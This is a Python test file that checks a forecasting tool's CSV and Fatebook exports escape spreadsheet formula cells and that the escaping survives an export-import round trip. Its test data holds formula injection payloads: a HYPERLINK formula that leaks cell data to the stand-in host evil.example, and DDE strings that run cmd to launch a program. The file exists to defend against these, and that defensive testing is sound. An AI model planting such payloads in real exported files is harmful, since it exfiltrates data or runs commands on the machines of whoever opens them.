"""Formula injection (issue #12, item 6): `export csv` and `export fatebook` wrote cells such as
`=HYPERLINK(…)` verbatim, which a spreadsheet runs when the file is opened. Text cells that
start like a formula now open as text (a leading '), imports drop the quote again, and the
export → import → export round trip stays byte for byte."""

from __future__ import annotations

import csv
import io
import json

import pytest

from forethought.interop.common import from_spreadsheet, spreadsheet_safe

ATTACKS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "criteria": "+cmd|' /C calc'!A0",
    "rationale": "@SUM(1+1)*cmd|' /C calc'!A0",
    "forecaster": "-2+3+cmd|' /C calc'!A0",
    "option": "+1",
}
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(run):
    steps = [
        ("ask", ATTACKS["title"], "--by", "2030-01-01", "--id", "evil", "--opened", "2024-01-01",
         "--criteria", ATTACKS["criteria"]),
        ("forecast", "evil", "0.3", "--at", "2024-02-01", "--as", ATTACKS["forecaster"],
         "--why", ATTACKS["rationale"]),
        ("forecast", "evil", "0.4", "--at", "2024-02-02", "--why", "'Tis plain"),
        ("forecast", "evil", "0.5", "--at", "2024-02-03", "--why", "'=already quoted"),
        ("ask", "Which?", "--by", "2030-01-01", "--id", "which", "--opened", "2024-01-01",
         "--option", ATTACKS["option"], "--option", "@home"),
        ("forecast", "which", f"{ATTACKS['option']}=0.6,@home=0.4", "--at", "2024-02-01"),
        ("resolve", "evil", "yes"),
    ]
    for args in steps:
        r = run(*args)
        assert r.exit_code == 0, (args, r.output)


def _cells(path) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8")))
            for cell in row]


@pytest.mark.parametrize("fmt", ["csv", "fatebook"])
def test_no_cell_opens_as_a_formula_and_the_round_trip_holds(run, hostile, empty_db, tmp_path,
                                                             fmt):
    first, second = tmp_path / "a.csv", tmp_path / "b.csv"
    assert run("export", fmt, "--out", str(first)).exit_code == 0
    cells = _cells(first)
    assert not [c for c in cells if c.startswith(STARTS)]
    for name in ("title", "criteria", "forecaster"):
        assert "'" + ATTACKS[name] in cells, name
    # options: a JSON list in forethought's CSV, a cell of their own in Fatebook's
    assert ("'" + ATTACKS["option"] in cells) == (fmt == "fatebook")
    if fmt == "csv":  # Fatebook's layout has no rationale
        assert "'" + ATTACKS["rationale"] in cells
        assert "'Tis plain" in cells and "''=already quoted" in cells
    other = empty_db()
    r = run("import", fmt, str(first), "--db", other)
    assert r.exit_code == 0, r.output
    assert run("export", fmt, "--out", str(second), "--db", other).exit_code == 0
    assert first.read_bytes() == second.read_bytes()
    ids = {q["title"]: q["id"] for q in json.loads(run("list", "--json", "--db", other).stdout)}
    shown = json.loads(run("show", ids[ATTACKS["title"]], "--json", "--db", other).stdout)
    assert shown["question"]["criteria"] == ATTACKS["criteria"]
    assert {f["forecaster"].removeprefix("fatebook:") for f in shown["forecasts"]} == {
        ATTACKS["forecaster"], "alice"}
    if fmt == "csv":
        assert [f["rationale"] for f in shown["forecasts"]] == [
            ATTACKS["rationale"], "'Tis plain", "'=already quoted"]


def test_verbatim_writes_cells_as_stored(run, hostile, tmp_path):
    out = tmp_path / "raw.csv"
    assert run("export", "csv", "--verbatim", "--out", str(out)).exit_code == 0
    assert ATTACKS["title"] in _cells(out)


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", "\tx", "\rx", "'", "''", "'=x", "'Tis",
                                  "plain", "", "a=b"])
def test_the_protection_is_reversible(text):
    protected = spreadsheet_safe(text)
    assert not protected.startswith(STARTS)
    assert from_spreadsheet(protected) == text
